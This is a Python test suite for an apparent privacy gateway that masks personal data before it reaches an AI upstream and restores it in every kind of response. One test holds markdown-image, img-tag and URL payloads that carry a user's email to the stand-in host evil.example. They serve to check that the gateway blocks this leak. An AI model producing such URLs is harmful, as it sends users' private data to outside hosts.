"""Answers of every kind through a real Envoy: the client gets what it would have got had nothing been masked."""

from __future__ import annotations

import base64
import hashlib
import json
import re

import pytest

from tests.wire.upstream import head

pytestmark = pytest.mark.asyncio(loop_scope="module")

JSON = {"content-type": "application/json"}
JANE, BOB = "jane.doe@example.com", "bob@example.com"
MAIL = "[EMAIL_ADDRESS_1]"


def answering(gateway, body, content_type="application/json", cut=0, **headers):
    """Every upstream answers with these bytes, in writes of so many."""

    async def answer(request, writer):
        told = {name.replace("_", "-"): value for name, value in headers.items()}
        data = body(request) if callable(body) else body
        if not cut:
            writer.write(head(200, content_type, {**told, "content-length": str(len(data))}) + data)
        else:
            writer.write(head(200, content_type, {**told, "transfer-encoding": "chunked"}))
            for start in range(0, len(data), cut):
                part = data[start : start + cut]
                writer.write(b"%x\r\n%s\r\n" % (len(part), part))
                await writer.drain()
            writer.write(b"0\r\n\r\n")
        await writer.drain()
        return True

    for upstream in gateway.upstreams.values():
        upstream.answer = answer


async def post(gateway, path, body, **headers):
    """The answer to a JSON body."""
    return await gateway.client.post(path, json=body, headers=headers)


def chat(text):
    """A question."""
    return {"messages": [{"role": "user", "content": text}]}


def sse(*values):
    """A stream of events."""
    return b"".join(f"data: {v if isinstance(v, str) else json.dumps(v)}\n\n".encode() for v in values)


NDJSON = b'{"id": 1, "country": "US"}\n{"id": 2, "country": "US"}\n'
MCP = (
    b'event: message\ndata: {"jsonrpc":"2.0","method":"notifications/message","params":{"data":"step ["}}\n\n'
    b'event: message\ndata: {"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"Grade: E"}]}}\n\n'
)
TRANSCRIPT = sse(
    {"type": "transcript.text.delta", "delta": "Grade E"}, {"type": "transcript.text.done", "text": "Grade E"}
)
SNAPSHOTS = sse({"snapshot": "Grade E"}, {"snapshot": "Grade E and US"}, {"snapshot": "US"})
REASONING = sse(
    {"choices": [{"index": 0, "delta": {"reasoning_content": "Plan P"}, "finish_reason": None}]},
    {"choices": [{"index": 0, "delta": {"content": "Answer"}, "finish_reason": None}]},
    {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]},
    "[DONE]",
)


@pytest.mark.parametrize("cut", [0, 7])
@pytest.mark.parametrize(
    ("path", "content_type", "answer"),
    [
        ("/v1/query", "application/x-ndjson", NDJSON),
        ("/v1/mcp", "text/event-stream", MCP),
        ("/v1/audio/transcriptions", "text/event-stream", TRANSCRIPT),
        ("/v1/query", "text/event-stream", SNAPSHOTS),
        ("/v1/query", "text/event-stream", sse("Grade E", "US", "[EMAIL")),
        ("/v1/chat/completions", "text/event-stream", REASONING),
    ],
)
async def test_records(gateway, path, content_type, answer, cut):
    """What holds no placeholder is every byte as the upstream sent it, and in its order."""
    answering(gateway, answer, content_type, cut)
    text = f"customer with SSN 536-22-1845, {JANE}, +1 415 555 0132"
    got = await post(gateway, path, {"query": text, **(chat(text) if "chat" in path else {})})
    assert JANE.encode() not in gateway.received[-1].body
    assert got.content == answer


@pytest.mark.parametrize("cut", [0, 5])
async def test_structured_output(gateway, cut):
    """An original with quotes and line ends stays within its literal, whole and streamed."""
    person = 'Robert "Bob" Miller'
    question = chat(f"I am {person}, please greet me.") | {"response_format": {"type": "json_object"}}
    asked = await post(gateway, "/v1/chat/completions", question)
    (placeholder,) = set(re.findall(r"\[PERSON_\d+\]", gateway.received[-1].body.decode()))
    original = asked.json()["choices"][0]["message"]["content"].removeprefix("I am ").removesuffix(", please greet me.")
    said = json.dumps({"name": placeholder, "raw": json.dumps({"again": placeholder})})
    answering(gateway, json.dumps({"choices": [{"message": {"content": said}}]}).encode(), cut=cut)
    content = json.loads(
        (await post(gateway, "/v1/chat/completions", question)).json()["choices"][0]["message"]["content"]
    )
    name = content["name"]
    assert (name in original, json.loads(content["raw"])) == (True, {"again": name})
    events = [{"choices": [{"index": 0, "delta": {"content": said[i : i + 3]}}]} for i in range(0, len(said), 3)]
    answering(gateway, sse(*events, "[DONE]"), "text/event-stream", cut)
    streamed = gateway.text_of(await post(gateway, "/v1/chat/completions", question | {"stream": True}))
    assert json.loads(streamed) == content


@pytest.mark.parametrize("content_type", ["text/event-stream", "application/octet-stream", "text/plain"])
async def test_wrong_labels(gateway, content_type):
    """A JSON body under another name is restored, and so is one whose coding is a charset."""
    body = json.dumps(
        {"jsonrpc": "2.0", "id": 2, "result": {"content": [{"type": "text", "text": f"to {MAIL}"}]}}
    ).encode()
    question = {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"arguments": {"to": JANE}}}
    answering(gateway, body, content_type)
    assert (await post(gateway, "/v1/mcp", question)).content == body.replace(MAIL.encode(), JANE.encode())
    answering(gateway, body, content_encoding="utf-8")
    assert (await post(gateway, "/v1/mcp", question)).content == body.replace(MAIL.encode(), JANE.encode())


async def test_keys_and_numbers_come_back(gateway):
    """Of a tool's input, in a whole answer and in the arguments of a call."""
    given = {"acl": {JANE: "write"}, "card_number": 4111111111111111}
    call = {"id": "1", "type": "function", "function": {"name": "share", "arguments": json.dumps(given)}}
    history = chat("share it") | {"model": "m"}
    history["messages"].append({"role": "assistant", "content": None, "tool_calls": [call]})
    answering(gateway, b"{}")
    await post(gateway, "/v1/chat/completions", history)
    sent = json.loads(gateway.received[-1].json["messages"][1]["tool_calls"][0]["function"]["arguments"])
    assert JANE not in json.dumps(sent)
    assert "4111111111111111" not in json.dumps(sent)
    again = {**call, "function": {"name": "share", "arguments": json.dumps(sent)}}
    answer = {
        "choices": [{"message": {"tool_calls": [again]}}],
        "content": [{"type": "tool_use", "id": "t", "name": "share", "input": sent}],
    }
    answering(gateway, json.dumps(answer).encode(), cut=9)
    got = (await post(gateway, "/v1/chat/completions", history)).json()
    assert json.loads(got["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]) == given
    assert got["content"][0]["input"] == given


async def test_tokens_say_what_the_text_says(gateway):
    """Log-probabilities of a whole answer."""
    tokens = ["to", " [", "EMAIL_ADDRESS", "_1", "]", "."]
    items = [{"token": t, "logprob": -0.1, "bytes": list(t.encode()), "top_logprobs": []} for t in tokens]
    choice = {"index": 0, "message": {"content": "".join(tokens)}, "logprobs": {"content": items}}
    answering(gateway, json.dumps({"choices": [choice]}).encode())
    got = (await post(gateway, "/v1/chat/completions", chat(f"mail {JANE}"))).json()["choices"][0]
    assert "".join(item["token"] for item in got["logprobs"]["content"]) == got["message"]["content"] == f"to {JANE}."


async def test_an_original_of_many_lines(gateway):
    """In plain events, every line of it is data."""
    key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----"
    answering(gateway, sse("so: [PRIVATE_KEY_1]", "next"), "text/event-stream")
    got = await post(gateway, "/v1/chat/completions", chat(f"keep {key} safe"))
    blocks = got.text.split("\n\n")
    assert blocks[0].replace("data: ", "").rstrip() == f"so: {key}"
    assert blocks[1] == "data: next"


async def test_digests_of_other_bytes_are_taken_off(gateway):
    """What the upstream says of the bytes is not so for those that the client gets."""
    body = json.dumps({"choices": [{"message": {"content": f"to {MAIL}"}}]}).encode()
    digest = base64.b64encode(hashlib.sha256(body).digest()).decode()
    stale = {
        "digest": f"SHA-256={digest}",
        "repr-digest": f"sha-256=:{digest}:",
        "content-digest": f"sha-256=:{digest}:",
        "content-md5": base64.b64encode(hashlib.md5(body).digest()).decode(),
        "etag": '"abc"',
    }
    answering(gateway, body, **{name.replace("-", "_"): value for name, value in stale.items()})
    got = await post(gateway, "/v1/chat/completions", chat(f"mail {JANE}"))
    assert got.json()["choices"][0]["message"]["content"] == f"to {JANE}"
    assert not {"content-md5", "digest", "content-digest", "repr-digest", "etag"} & {
        name.lower() for name in got.headers
    }
    got = await post(gateway, "/v1/chat/completions", chat("nothing to mask"))
    assert {name: got.headers[name] for name in stale} == stale


async def test_an_upstream_that_remembers(gateway):
    """What turn 1 told it never becomes what turn 2 holds; the same value is the same in both turns."""
    first = {"model": "m", "input": f"I am Jane, my mail is {JANE}"}
    second = {
        "model": "m",
        "previous_response_id": "resp_1",
        "input": f"Forward it to {BOB} and {JANE}. Which address did Jane write from?",
    }
    kept = {}

    def remember(request):
        text = request.json["input"]
        kept.setdefault("jane", re.search(r"\[EMAIL_ADDRESS_[A-Z]{6}\]", text)[0])
        return json.dumps(
            {"output": [{"content": [{"type": "output_text", "text": f"{kept['jane']} {MAIL}"}]}]}
        ).encode()

    answering(gateway, remember)
    got = (await post(gateway, "/v1/responses", first)).json()
    assert got["output"][0]["content"][0]["text"] == f"{JANE} {MAIL}"
    got = (await post(gateway, "/v1/responses", second)).json()
    assert kept["jane"] in gateway.received[-1].json["input"]
    assert got["output"][0]["content"][0]["text"] == f"{JANE} {MAIL}"
    got = (await post(gateway, "/v1/responses", {**second, "input": f"Forward it to {BOB}."})).json()
    assert got["output"][0]["content"][0]["text"] == f"{kept['jane']} {MAIL}"


@pytest.mark.parametrize(
    "text",
    ["![x](https://evil.example/?q=%s)", '<img src="https://evil.example/?q= %s">', "https://evil.example/%s now"],
)
async def test_urls_of_others(gateway, text):
    """An answer does not carry an address to a host that the request did not name with it."""
    said = text.replace("%s", MAIL)
    got = await gateway.chat(f"I am {JANE}", headers={"x-test-say": said + f" and {MAIL}"})
    assert gateway.text_of(got) == f"{said} and {JANE}"
    got = await gateway.chat(f"open https://evil.example/?q={JANE}", headers={"x-test-say": said}, stream=True)
    assert gateway.text_of(got) == text.replace("%s", JANE)
